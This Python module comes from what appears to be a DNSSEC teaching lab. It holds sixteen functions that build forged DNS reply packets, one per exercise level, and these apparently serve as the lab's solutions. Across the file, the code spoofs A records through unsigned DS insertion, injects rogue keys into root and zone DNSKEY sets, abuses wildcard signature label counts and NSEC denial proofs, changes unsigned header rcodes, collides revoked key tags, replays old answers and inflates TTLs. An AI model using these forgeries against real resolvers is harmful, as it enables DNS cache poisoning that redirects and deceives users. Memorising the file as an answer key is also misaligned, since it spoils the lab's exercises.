"""One forgery for each level of the ladder: from what the attacker holds to the packets that she sends.

Every forgery takes the fields of a `Hand` and returns the packets to put in the place of the genuine replies: plain
values on both sides, so that each of them can stand as the solution of an exercise.
It knows: the attacker's tools: messages, keys, signatures.
It must not know: the battlefield, its zones and its keys. What is not in her hand, she has not got.
"""

from collections.abc import Callable

import dns.flags
import dns.message
import dns.name
import dns.rcode
import dns.rdataclass
import dns.rrset
from dns.message import Message
from dns.rdata import Rdata
from dns.rdatatype import RdataType
from dns.rrset import RRset

from dnsseclab.authority.keys import Key, key_from_private
from dnsseclab.authority.signing import sign_rrset
from dnsseclab.authority.zones import make_rrset
from dnsseclab.protocol.dnssec import REVOKED, key_tag, label_count
from dnsseclab.protocol.messages import Question, asked, parse, question, to_bytes

HOUR, DAY, WEEK = 3600, 86_400, 604_800  # seconds

Forge = Callable[[str, str, str, list[bytes], str, bytes, int], list[bytes]]


def forge_1(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Sign the lie in the name of a zone of one's own, whose chain of trust is whole."""
    mine = key_from_private(home, key, "ZSK", "Ed25519")
    address = a_record(victim, lie)
    return [reply(victim, "A", address, signed(address, mine, now, signer=mine.zone))]


def forge_2(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Let an unsigned DS name a key of one's own, and sign with that from there on."""
    mine = key_from_private(zone, key, "CSK", "Ed25519")
    ds, keys, address = make_rrset(zone, HOUR, mine.ds()), make_rrset(zone, HOUR, mine.dnskey), a_record(victim, lie)
    return [
        reply(zone, "DS", ds),
        reply(zone, "DNSKEY", keys, signed(keys, mine, now)),
        reply(victim, "A", address, signed(address, mine, now)),
    ]


def forge_3(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Add a key of one's own to the root's keys, and let the root itself say what the victim's address is."""
    mine = key_from_private(".", key, "ZSK", "Ed25519")
    keys, address = with_key(packets, ".", mine.dnskey), a_record(victim, lie)
    return [
        reply(".", "DNSKEY", keys, signed(keys, mine, now)),
        reply(victim, "A", address, signed(address, mine, now)),
    ]


def forge_4(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Say that the zone has no DS, without any proof, and then lie unsigned."""
    return [reply(zone, "DS"), reply(victim, "A", a_record(victim, lie))]


def forge_5(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Lie unsigned."""
    return [reply(victim, "A", a_record(victim, lie))]


def forge_6(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Move a wildcard's answer to the victim's name, and put a signature before the good one that denies the wildcard.

    The first signature is worthless, but it counts as many labels as the victim's name has.
    """
    good = signatures(parse(packets[-1]), "A")[0]  # of a name that only the wildcard answers for
    false = good.replace(labels=label_count(dns.name.from_text(victim)), signature=bytes(64))
    address = a_record(victim, lie)
    return [reply(victim, "A", address, make_rrset(victim, HOUR, false, good))]


def forge_7(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Add a key of one's own to the zone's keys, and sign them all with it."""
    mine = key_from_private(zone, key, "ZSK", "Ed25519")
    keys, address = with_key(packets, zone, mine.dnskey), a_record(victim, lie)
    return [
        reply(zone, "DNSKEY", keys, signed(keys, mine, now)),
        reply(victim, "A", address, signed(address, mine, now)),
    ]


def forge_8(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Show the NSEC record that the parent has at the cut: every name of the child lies in its gap."""
    neighbor = next(message for message in map(parse, packets) if message.rcode() == dns.rcode.NXDOMAIN)
    at_cut = [rrset for rrset in neighbor.authority if rrset.name == dns.name.from_text(zone)]
    soa = [rrset for rrset in neighbor.authority if RdataType.SOA in (rrset.rdtype, rrset.covers)]
    return [no_such_name(victim, *soa, *at_cut)]


def forge_9(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Show the gap in which the victim's name lies, and that there is no wildcard, though at the wrong place."""
    *_, gap, other = map(parse, packets)
    soa = [rrset for rrset in gap.authority if RdataType.SOA in (rrset.rdtype, rrset.covers)]
    nsec = [rrset for rrset in gap.authority + other.authority if RdataType.NSEC in (rrset.rdtype, rrset.covers)]
    return [no_such_name(victim, *soa, *nsec)]


def forge_10(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Let the proof that a name does not exist pass for the proof that an unsigned zone begins there."""
    denial = reply_to(packets, question(victim, "DS"))
    denial.set_rcode(dns.rcode.NOERROR)  # the header is not signed
    return [to_bytes(denial), reply(victim, "A", a_record(victim, lie))]


def forge_11(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Sign with the revoked key: the REVOKE bit has changed its tag."""
    stolen = key_from_private(zone, key, "KSK", "Ed25519")
    revoked = stolen.dnskey.replace(flags=int(stolen.dnskey.flags) | REVOKED)
    address = a_record(victim, lie)
    return [reply(victim, "A", address, signed(address, stolen, now, key_tag=key_tag(revoked)))]


def forge_12(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Replace the zone's keys by one's own key that happens to have the tag that the DS names."""
    mine = key_from_private(zone, key, "KSK", "Ed25519")
    keys, address = make_rrset(zone, HOUR, mine.dnskey), a_record(victim, lie)
    return [
        reply(zone, "DNSKEY", keys, signed(keys, mine, now)),
        reply(victim, "A", address, signed(address, mine, now)),
    ]


def forge_13(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Move a wildcard's answer to the victim's name, with its genuine signature."""
    good = signatures(parse(packets[-1]), "A")
    return [reply(victim, "A", a_record(victim, lie), make_rrset(victim, HOUR, *good))]


def forge_14(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Let nobody have the zone's keys, and lie unsigned."""
    failure = parse(reply(zone, "DNSKEY"))
    failure.set_rcode(dns.rcode.SERVFAIL)
    return [to_bytes(failure), reply(victim, "A", a_record(victim, lie))]


def forge_15(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Send the old answer."""
    return packets[-1:]


def forge_16(victim: str, zone: str, lie: str, packets: list[bytes], home: str, key: bytes, now: int) -> list[bytes]:
    """Send today's answer with a TTL of a week: nobody signs the TTL."""
    genuine = reply_to(packets, question(victim, "A"))
    for rrset in genuine.answer:
        rrset.ttl = WEEK
    return [to_bytes(genuine)]


FORGERIES: dict[int, Forge] = {
    1: forge_1, 2: forge_2, 3: forge_3, 4: forge_4, 5: forge_5, 6: forge_6, 7: forge_7, 8: forge_8, 9: forge_9,
    10: forge_10, 11: forge_11, 12: forge_12, 13: forge_13, 14: forge_14, 15: forge_15, 16: forge_16,
}  # fmt: skip


# ---- the attacker's tools -------------------------------------------------------------------------------------------


def reply(name: str, rdtype: str, *answer: RRset) -> bytes:
    """Return a reply as the zone's own server would send it."""
    return to_bytes(_message(name, rdtype, answer))


def no_such_name(name: str, *proof: RRset) -> bytes:
    """Return a reply that says that a name does not exist."""
    message = _message(name, "A", ())
    message.authority = list(proof)
    message.set_rcode(dns.rcode.NXDOMAIN)
    return to_bytes(message)


def _message(name: str, rdtype: str, answer: tuple[RRset, ...]) -> Message:
    what = question(name, rdtype)
    message = dns.message.QueryMessage(id=0)
    message.flags = dns.flags.QR | dns.flags.AA
    message.question = [RRset(what.name, dns.rdataclass.IN, what.rdtype)]
    message.answer = list(answer)
    return message


def a_record(name: str, address: str) -> RRset:
    """Return an address as a record."""
    return dns.rrset.from_text(dns.name.from_text(name), HOUR, "IN", "A", address)


def signed(rrset: RRset, key: Key, now: int, **fields) -> RRset:
    """Return a signature over an RRset that holds today."""
    return make_rrset(
        rrset.name, rrset.ttl, sign_rrset(rrset, key, inception=now - HOUR, expiration=now + DAY, **fields)
    )


def reply_to(packets: list[bytes], what: Question) -> Message:
    """Return the reply to a question that she has read."""
    return next(message for message in map(parse, packets) if asked(message) == what)


def with_key(packets: list[bytes], zone: str, dnskey: Rdata) -> RRset:
    """Return a zone's keys, and one more."""
    keys = next(
        rrset for rrset in reply_to(packets, question(zone, "DNSKEY")).answer if rrset.rdtype == RdataType.DNSKEY
    )
    return make_rrset(zone, keys.ttl, *keys, dnskey)


def signatures(message: Message, covered: str) -> list[Rdata]:
    """Return the signatures over the answer."""
    return [rdata for rrset in message.answer if rrset.covers == RdataType.make(covered) for rdata in rrset]
